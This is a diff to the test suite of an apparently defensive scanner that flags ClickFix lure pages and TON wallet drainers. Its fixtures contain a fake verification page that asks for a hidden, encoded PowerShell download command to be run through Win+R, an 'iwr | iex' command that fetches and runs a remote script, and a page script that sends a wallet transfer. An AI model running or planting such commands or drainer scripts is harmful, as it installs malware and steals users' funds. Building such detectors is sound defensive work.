@@ -1429,6 +1429,14 @@ describe('analysis: signal rules', () => {
       assert.ok(!own.decidedBy?.includes('combo:clickfix-branded-steps'), `${own.verdict} ${own.decidedBy?.join(',')}`);
     });
 
+    it('a command to copy that hides what it runs (hidden window, encoded command), with Run-box steps, is ClickFix without any fake check; a help page whose plain command is run so stays clean', () => {
+      const page = (command: string): string => `<title>Consulta virtual</title><h1>Verificación de video</h1><p>Para entrar en la sala, complete la verificación.</p><textarea id="c" readonly>${command}</textarea><button onclick="document.getElementById('c').select();document.execCommand('copy')">Copiar</button><ol><li>Pulse Windows + R</li><li>Pegue con Ctrl + V</li><li>Presione Enter</li></ol>`;
+      decides('clickfix-hidden-command', 'https://sala-consulta.example/es/verificacion', page('powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'));
+      const plain = judge('https://helpdesk.clinic-example.org/kb/teams', page('powershell -ExecutionPolicy Bypass -Command "iwr https://helpdesk.clinic-example.org/fix-teams.ps1 | iex"'));
+      assert.ok(ids(plain).includes('shell-command-text') && !ids(plain).includes('hidden-shell-command'), JSON.stringify(ids(plain)));
+      clean(plain);
+    });
+
     it('a TON airdrop in Russian that connects Tonkeeper and sends a plain transfer to an address the page holds is a drainer; a TON swap whose message carries a payload is not plain', () => {
       const drop = (message: string): ScanResult => judge('https://token-drop.example/claim', `<title>Раздача токенов</title><h2>Второй этап раздачи</h2><p>Подключите кошелёк TON, чтобы получить ваучеры.</p><button id="t">Подключить Tonkeeper</button><script>document.getElementById('t').onclick=async function(){var p=window.tonkeeper&&window.tonkeeper.provider;var acc=await p.send('ton_requestAccounts');await p.send('ton_sendTransaction',[{valid_until:1,messages:[{${message}}]}]);}</script>`);
       const plain = drop("address:'UQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:String(9e8)");
